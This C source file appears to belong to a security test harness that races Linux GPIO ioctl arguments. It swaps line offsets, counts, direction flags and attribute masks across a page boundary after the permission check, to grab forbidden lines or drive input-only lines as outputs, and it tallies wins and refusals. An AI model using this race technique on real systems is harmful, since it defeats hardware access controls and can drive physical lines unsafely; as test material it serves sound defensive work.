// SPDX-License-Identifier: GPL-2.0-or-later
/* Changes: the requests that are raced, each allowed as it is filled in, and their results. */
#include <errno.h>
#include <fcntl.h>
#include <linux/gpio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../lib/gpio.h"
#include "attack.h"

static const struct change *change;
static const struct writer *writer;
static int held = -1;

unsigned int next_fd;

/* ---- the requests ------------------------------------------------------------------------ */

/* Output values of 1 on all lines, as the last attribute. */
static void add_values(struct gpio_v2_line_config *config)
{
	struct gpio_v2_line_config_attribute *attr = &config->attrs[config->num_attrs++];

	attr->attr.id = GPIO_V2_LINE_ATTR_ID_OUTPUT_VALUES;
	attr->attr.values = ~0ull;
	attr->mask = ~0ull;
}

static void fill_request(struct gpio_v2_line_request *request, __u32 offset, __u64 flags)
{
	request->num_lines = 1;
	request->offsets[0] = offset;
	request->offsets[1] = FORBIDDEN;
	request->config.flags = flags;
	strcpy(request->consumer, "attack");
}

static void fill_output(void *argument)
{
	struct gpio_v2_line_request *request = argument;

	fill_request(request, ALLOWED, GPIO_V2_LINE_FLAG_OUTPUT);
	add_values(&request->config);
}

static void fill_input(void *argument)
{
	struct gpio_v2_line_request *request = argument;

	fill_request(request, INPUT_ONLY, GPIO_V2_LINE_FLAG_INPUT);
	add_values(&request->config);
}

static void fill_attribute(void *argument)
{
	struct gpio_v2_line_request *request = argument;

	fill_request(request, INPUT_ONLY, GPIO_V2_LINE_FLAG_INPUT);
	request->config.num_attrs = 1;
	request->config.attrs[0].attr.id = GPIO_V2_LINE_ATTR_ID_FLAGS;
	request->config.attrs[0].attr.flags = GPIO_V2_LINE_FLAG_INPUT;
	request->config.attrs[0].mask = 1;
	add_values(&request->config);
}

/* An attribute that makes an output of line 1 of a request that has only line 0. */
static void fill_mask(void *argument)
{
	struct gpio_v2_line_request *request = argument;

	fill_attribute(argument);
	request->config.attrs[0].attr.flags = GPIO_V2_LINE_FLAG_OUTPUT;
	request->config.attrs[0].mask = 2;
}

static void fill_config(void *argument)
{
	struct gpio_v2_line_config *config = argument;

	config->flags = GPIO_V2_LINE_FLAG_INPUT;
	add_values(config);
}

static void fill_handle(void *argument)
{
	struct gpiohandle_request *request = argument;

	request->lines = 1;
	request->lineoffsets[0] = ALLOWED;
	request->flags = GPIOHANDLE_REQUEST_OUTPUT;
	request->default_values[0] = 1;
	strcpy(request->consumer_label, "attack");
}

static void fill_handle_config(void *argument)
{
	struct gpiohandle_config *config = argument;

	config->flags = GPIOHANDLE_REQUEST_INPUT;
	config->default_values[0] = 1;
}

static void fill_event(void *argument)
{
	struct gpioevent_request *request = argument;

	request->lineoffset = ALLOWED;
	request->handleflags = GPIOHANDLE_REQUEST_INPUT;
	request->eventflags = GPIOEVENT_REQUEST_BOTH_EDGES;
	strcpy(request->consumer_label, "attack");
}

#define IN_REQUEST(member) offsetof(struct gpio_v2_line_request, member)

const struct change changes[] = {
	{.name = "offset",
	 .word = IN_REQUEST(offsets[0]),
	 .checked = ALLOWED,
	 .raced = FORBIDDEN,
	 .target = FORBIDDEN,
	 .takes = true,
	 .command = GPIO_V2_GET_LINE_IOCTL,
	 .fill = fill_output},
	{.name = "count",
	 .word = IN_REQUEST(num_lines),
	 .checked = 1,
	 .raced = 2,
	 .target = FORBIDDEN,
	 .takes = true,
	 .command = GPIO_V2_GET_LINE_IOCTL,
	 .fill = fill_output},
	{.name = "direction",
	 .word = IN_REQUEST(config.flags),
	 .checked = GPIO_V2_LINE_FLAG_INPUT,
	 .raced = GPIO_V2_LINE_FLAG_OUTPUT,
	 .target = INPUT_ONLY,
	 .command = GPIO_V2_GET_LINE_IOCTL,
	 .fill = fill_input},
	{.name = "attribute",
	 .word = IN_REQUEST(config.attrs[0].attr.flags),
	 .checked = GPIO_V2_LINE_FLAG_INPUT,
	 .raced = GPIO_V2_LINE_FLAG_OUTPUT,
	 .target = INPUT_ONLY,
	 .command = GPIO_V2_GET_LINE_IOCTL,
	 .fill = fill_attribute},
	{.name = "attribute-mask",
	 .word = IN_REQUEST(config.attrs[0].mask),
	 .checked = 2,
	 .raced = 1,
	 .target = INPUT_ONLY,
	 .command = GPIO_V2_GET_LINE_IOCTL,
	 .fill = fill_mask},
	{.name = "config",
	 .word = offsetof(struct gpio_v2_line_config, flags),
	 .checked = GPIO_V2_LINE_FLAG_INPUT,
	 .raced = GPIO_V2_LINE_FLAG_OUTPUT,
	 .target = INPUT_ONLY,
	 .holds = true,
	 .command = GPIO_V2_LINE_SET_CONFIG_IOCTL,
	 .fill = fill_config},
	{.name = "v1-handle",
	 .word = offsetof(struct gpiohandle_request, lineoffsets[0]),
	 .checked = ALLOWED,
	 .raced = FORBIDDEN,
	 .target = FORBIDDEN,
	 .takes = true,
	 .v1 = true,
	 .command = GPIO_GET_LINEHANDLE_IOCTL,
	 .fill = fill_handle},
	{.name = "v1-config",
	 .word = offsetof(struct gpiohandle_config, flags),
	 .checked = GPIOHANDLE_REQUEST_INPUT,
	 .raced = GPIOHANDLE_REQUEST_OUTPUT,
	 .target = INPUT_ONLY,
	 .holds = true,
	 .v1 = true,
	 .command = GPIOHANDLE_SET_CONFIG_IOCTL,
	 .fill = fill_handle_config},
	{.name = "v1-event",
	 .word = offsetof(struct gpioevent_request, lineoffset),
	 .checked = ALLOWED,
	 .raced = FORBIDDEN,
	 .target = FORBIDDEN,
	 .takes = true,
	 .v1 = true,
	 .command = GPIO_GET_LINEEVENT_IOCTL,
	 .fill = fill_event},
	{0},
};

void learn_next_fd(void)
{
	next_fd = dup(chip);
	close(next_fd);
}

/* ---- what came of it --------------------------------------------------------------------- */

bool look(const struct change *at, bool have)
{
	struct gpio_v2_line_info info = {.offset = at->target};
	bool driven, taken;

	if (ioctl(chip, GPIO_V2_GET_LINEINFO_IOCTL, &info))
		return false;
	driven = info.flags & GPIO_V2_LINE_FLAG_OUTPUT;
	taken = at->takes && info.flags & GPIO_V2_LINE_FLAG_USED;
	tally->taken += taken;
	tally->driven += driven;
	tally->valued += driven && line_value(at->target);
	tally->descriptors += have && (at->takes ? taken : driven);
	return driven || taken;
}

/* From the stack, where no writer reaches it. */
bool request_allowed(const struct change *c)
{
	int fd = c->v1 ? gpio_request_handle(chip, INPUT_ONLY, GPIOHANDLE_REQUEST_INPUT)
		       : gpio_request_lines(chip, INPUT_ONLY, 1, GPIO_V2_LINE_FLAG_INPUT);

	if (fd < 0)
		return false;
	held = fd;
	if (!c->holds)
		close(held);
	return true;
}

/* Ends a won attempt, so that the next win is seen. What is held stays held: others inherited it.
 */
static void undo(void)
{
	struct gpio_v2_line_config config = {.flags = GPIO_V2_LINE_FLAG_INPUT};
	struct gpiohandle_config handle_config = {.flags = GPIOHANDLE_REQUEST_INPUT};

	if (!change->holds)
		ask_for_reset();
	else if (change->v1)
		ioctl(held, GPIOHANDLE_SET_CONFIG_IOCTL, &handle_config);
	else
		ioctl(held, GPIO_V2_LINE_SET_CONFIG_IOCTL, &config);
}

/*
 * The new request's descriptor is known before: what the argument says of it may have been
 * exchanged like everything else. Line info is asked after each success; after failures now and
 * then, because a line that was driven stays an output.
 */
static void attempt(struct flip *flip)
{
	int fd = change->holds ? held : chip, err;
	bool won = false;

	tally->attempts++;
	if (writer->before)
		writer->before(flip);
	else
		*flip->word = flip->checked;
	err = ioctl(fd, change->command, flip->argument) ? errno : 0;
	tally->allowed += !err;
	tally->refused += err == EPERM;
	if (err && err != EPERM) {
		tally->failed++;
		tally->error = err;
	}
	if (!err || tally->attempts % 64 == 0)
		won = look(change, !err);
	if (!err && !change->holds && !writer->keeps)
		close(next_fd);
	if (won) {
		tally->wins++;
		if (!writer->keeps)
			undo();
	}
}

void attempts(struct flip *flip)
{
	if (!next_fd)
		learn_next_fd();
	while (!*(volatile bool *)&tally->stop)
		attempt(flip);
	tally->stopped = true;
	for (;;)
		pause();
}

/* ---- the argument ------------------------------------------------------------------------ */

static void *map_private(void)
{
	return mmap(NULL, AREA_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
}

/*
 * The argument lies across two pages, its first 256 bytes (the offsets, and all of a small
 * argument) before the border. The page of the word is written only where it is not yet what it
 * is to be: one writer needs it never written.
 */
void make_argument(struct flip *flip, const struct change *c, const struct writer *w)
{
	size_t start = PAGE - 256, at = start + c->word, in_page = at % PAGE;
	char whole[AREA_SIZE] = {0};

	change = c;
	writer = w;
	c->fill(whole + start);
	flip->checked = c->checked;
	flip->raced = c->raced;
	for (int i = 0; i < 2; i++) {
		memcpy(flip->images[i], whole + at - in_page, PAGE);
		memcpy(flip->images[i] + in_page, i ? &flip->raced : &flip->checked, 4);
	}
	flip->area = map_private();
	flip->argument = flip->area + start;
	flip->page = flip->area + at - in_page;
	flip->word = (void *)(flip->area + at);
	memcpy(flip->area, whole, AREA_SIZE);
	if (w->map)
		w->map(flip);
	if (memcmp(flip->page, flip->images[0], PAGE))
		memcpy(flip->page, flip->images[0], PAGE);
}
